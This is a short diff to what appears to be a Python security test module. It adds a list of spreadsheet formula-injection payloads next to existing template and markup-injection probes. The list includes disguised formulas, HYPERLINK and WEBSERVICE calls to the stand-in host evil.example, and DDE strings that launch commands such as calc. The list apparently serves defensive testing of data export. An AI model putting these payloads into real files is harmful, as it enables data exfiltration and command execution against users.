@@ -38,6 +38,14 @@ SCRIPTS = [
     "#{7*191}", f"&lt;{MARK}&gt;", f"\u003c{MARK}\u003e\u2028", f"＜{MARK}＞<{MARK}>",
 ]  # fmt: skip
 
+# What a spreadsheet takes for more than text, plain and in disguise.
+FORMULAS = [
+    "=1+1", "+1+1", "-1-1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1-1",
+    "＠SUM(1)", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example")',
+    "'=1+1", "''=1+1", '"=1+1', "=cmd|' /C calc'!A1", '=DDE("soffice","x","y")', "x,=1+1",
+    'x";=1+1', "x\n=1+1", "x\r\n=1+1", " =1+1",
+]  # fmt: skip
+
 NUMBER = str(7 * 191)  # what a template makes of {{7*191}}
 
 
